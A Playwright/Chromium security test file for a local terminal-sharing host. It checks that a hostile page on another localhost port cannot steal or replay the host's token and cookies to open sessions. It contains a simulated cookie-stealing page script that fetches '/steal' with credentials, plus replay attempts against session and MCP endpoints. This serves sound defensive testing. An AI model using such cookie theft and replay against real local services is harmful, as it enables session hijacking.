// The browser's cookie is not bound to a port: every server on 127.0.0.1 receives the cookies of
// every other. A real Chromium opens a `view` link, then visits a hostile page served by another
// local server, which fetches itself with credentials: 'include'. What that server receives must hold
// no host token and open no session (docs/protocol.md, Links and page cookies). Also in the browser:
// the printed link opens once and history keeps no usable token, a used link says so in words, and
// opening someone's shared link leaves the owner's own views working.
// Needs the view bundle (`node esbuild.mjs` builds dist/view.js) and /usr/bin/chromium.
/// <reference lib="dom" />
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { Host } from '../../src/host/host';
import type { Session } from '../../src/core/session/session';
import type { RpcClient } from '../../src/transport/client/rpc-client';
import { startHttpServer, type HttpServer } from '../../src/transport/http/http-server';
import { connect, startHost, until } from '../helpers/host';
import { request } from '../helpers/http';
import { chromiumSkip, launchChromium } from '../helpers/chromium';

const ROOT = path.join(__dirname, '..', '..');
const skip = chromiumSkip('the hostile page test');

/** Bounds on waits; generous, since a browser on a loaded test machine is slow to start. */
const enum Wait {
  Load = 30_000,
  Screen = 20_000,
}

/** What the hostile server saw of one request. */
interface Seen {
  url: string;
  headers: http.IncomingHttpHeaders;
}

/** A local web server that is not ours: its page fetches itself with the browser's credentials, and it keeps every request. */
async function hostileServer(): Promise<{ url: string; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    if (req.url === '/') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<!doctype html><title>hostile</title><script>
        fetch('/steal', { credentials: 'include' }).then(() => { document.title = 'sent'; }, () => { document.title = 'failed'; });
      </script>`);
      return;
    }
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('ok');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as AddressInfo).port;
  return { url: `http://127.0.0.1:${port}/`, seen, close: () => new Promise<void>((r) => server.close(() => r())) };
}

/** The rows of the session's own screen (the host's mirror). */
async function screenRows(session: Session): Promise<string[]> {
  return (await session.mirror.screen()).rows;
}

/** Every cookie value in a Cookie header. */
function cookieValues(header: string | undefined): string[] {
  return (header ?? '')
    .split(';')
    .map((p) => p.slice(p.indexOf('=') + 1).trim())
    .filter(Boolean);
}

describe('a hostile local page in the same browser (Chromium)', { skip }, () => {
  let hostHandle: Awaited<ReturnType<typeof startHost>>;
  let host: Host;
  let server: HttpServer;
  let ctl: RpcClient;
  let session: Session;
  let other: Session;
  let browser: Browser;
  const contexts: BrowserContext[] = [];

  const newPage = async (context?: BrowserContext): Promise<Page> => {
    if (!context) {
      context = await browser.newContext({ viewport: { width: 1000, height: 600 } });
      contexts.push(context);
    }
    const page = await context.newPage();
    page.setDefaultTimeout(Wait.Load);
    return page;
  };

  before(async () => {
    assert.ok(fs.existsSync(path.join(ROOT, 'dist', 'view.js')), 'dist/view.js is missing: run `node esbuild.mjs` first');
    hostHandle = await startHost();
    host = hostHandle.host;
    server = await startHttpServer(host, { hostId: host.hostId });
    host.attachHttp(server);
    ctl = await connect(host.controlAddress);
    const bash = { command: 'bash', args: ['--norc', '--noprofile', '-i'], env: { PS1: 'mine$ ', HISTFILE: '/dev/null' }, cols: 90, rows: 24 };
    session = await host.createSession({ ...bash, name: 'owners-session' });
    other = await host.createSession({ ...bash, name: 'colleagues-session' });
    await until(async () => (await screenRows(session)).some((r) => r.startsWith('mine$')), Wait.Screen, 'the bash prompt');
    browser = await launchChromium();
  });

  after(async () => {
    for (const c of contexts) await c.close().catch(() => {});
    await browser?.close().catch(() => {});
    ctl?.close();
    await hostHandle?.close();
  });

  it('receives no host token, and nothing it receives opens a session, lists them or creates one; the printed link opens once', async () => {
    const hostile = await hostileServer();
    try {
      // The user opens the link `shared-pty view` printed (session/viewUrl is what it calls).
      const { url: link } = (await ctl.call('session/viewUrl', { session: session.id })) as { url: string };
      const linkToken = new URL(link).searchParams.get('token') ?? '';
      const page = await newPage();
      await page.goto(link);
      await until(async () => (await page.textContent('#status'))?.startsWith('live'), Wait.Screen, 'the view to go live');
      // History keeps no usable token: the link's entry was replaced by the address without it.
      const cdp = await page.context().newCDPSession(page);
      const history = (await cdp.send('Page.getNavigationHistory')) as { entries: Array<{ url: string }> };
      await cdp.detach();
      for (const e of history.entries) assert.ok(!e.url.includes('token='), `a history entry with a token: ${e.url}`);

      // Then, in the same browser, a page of another local server.
      const evil = await newPage(page.context());
      await evil.goto(hostile.url);
      await until(async () => (await evil.title()) === 'sent', Wait.Load, "the hostile page's fetch");
      const steal = hostile.seen.find((s) => s.url === '/steal');
      assert.ok(steal, 'the hostile server got the fetch');
      const received = JSON.stringify(hostile.seen);
      assert.ok(!received.includes(server.token), `the hostile server received the host's token: ${received}`);

      // Whatever it received, it tries every way a local process can use it.
      const port = server.port;
      const values = cookieValues(steal.headers.cookie);
      const cookie = steal.headers.cookie ?? '';
      const attempts: Array<[string, Promise<{ status: number }>]> = [
        ['POST /sessions with its cookies', request(port, 'POST', '/sessions', { headers: { cookie }, body: { command: 'bash' } })],
        ['GET /sessions with its cookies', request(port, 'GET', '/sessions', { headers: { cookie } })],
        [
          'POST /mcp with its cookies',
          request(port, 'POST', '/mcp', {
            headers: { cookie, accept: 'application/json, text/event-stream' },
            body: { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'open_session', arguments: {} } },
          }),
        ],
        ...values.flatMap((v): Array<[string, Promise<{ status: number }>]> => [
          ['POST /sessions with a cookie value as Bearer', request(port, 'POST', '/sessions', { token: v, body: { command: 'bash' } })],
          [
            'POST /mcp with a cookie value as Bearer',
            request(port, 'POST', '/mcp', {
              token: v,
              headers: { accept: 'application/json, text/event-stream' },
              body: { jsonrpc: '2.0', id: 1, method: 'initialize', params: {} },
            }),
          ],
          ['a cookie value as a link', request(port, 'GET', `/sessions/${session.id}/view?token=${encodeURIComponent(v)}`)],
        ]),
      ];
      for (const [what, p] of attempts) {
        const status = (await p).status;
        assert.ok(status === 401 || status === 403, `${what}: ${status}`);
      }
      assert.equal(host.registry.size, 2, 'no session was created');

      // The printed link itself opens nothing any more: a second browser is told so, in words.
      const late = await newPage();
      const answer = await late.goto(link);
      assert.equal(answer?.status(), 401);
      assert.equal(await late.textContent('h1'), 'This link was already used');
      assert.equal((await request(port, 'GET', '/sessions', { token: linkToken })).status, 401, 'nor as a Bearer token');
    } finally {
      await hostile.close();
    }
  });

  it("opening a colleague's shared link leaves the owner's own view working, and it still types", async () => {
    const page = await newPage();
    const mine = (await ctl.call('session/viewUrl', { session: session.id, input: true })) as { url: string };
    await page.goto(mine.url);
    await until(async () => (await page.textContent('#status'))?.startsWith('live'), Wait.Screen, "the owner's view");
    const cookiesBefore = await page.context().cookies();
    // A link to another session, opened in the same browser, in another tab.
    const theirs = (await ctl.call('session/share', { session: other.id })) as { url: string };
    const tab = await newPage(page.context());
    await tab.goto(theirs.url);
    await until(async () => (await tab.textContent('#status'))?.startsWith('live'), Wait.Screen, 'the shared view');
    assert.equal(await tab.isVisible('#readonly-badge'), true);
    const cookiesAfter = await page.context().cookies();
    assert.deepEqual(
      cookiesAfter.map((c) => [c.name, c.value]),
      cookiesBefore.map((c) => [c.name, c.value]),
      'one cookie, not replaced',
    );
    assert.deepEqual(
      cookiesAfter.map((c) => [c.name, c.httpOnly, c.sameSite, c.path]),
      [[`shared_pty_${server.port}`, true, 'Strict', '/']],
    );
    // The owner reloads their own view: it opens, with input.
    await page.reload();
    await until(async () => (await page.textContent('#status'))?.startsWith('live'), Wait.Screen, "the owner's view after the reload");
    assert.equal(await page.isVisible('#readonly-badge'), false);
    await page.click('#terminal');
    await page.keyboard.type('echo still-mine');
    await page.keyboard.press('Enter');
    await until(async () => (await screenRows(session)).includes('still-mine'), Wait.Screen, "the owner's typing to reach the shell");
  });
});
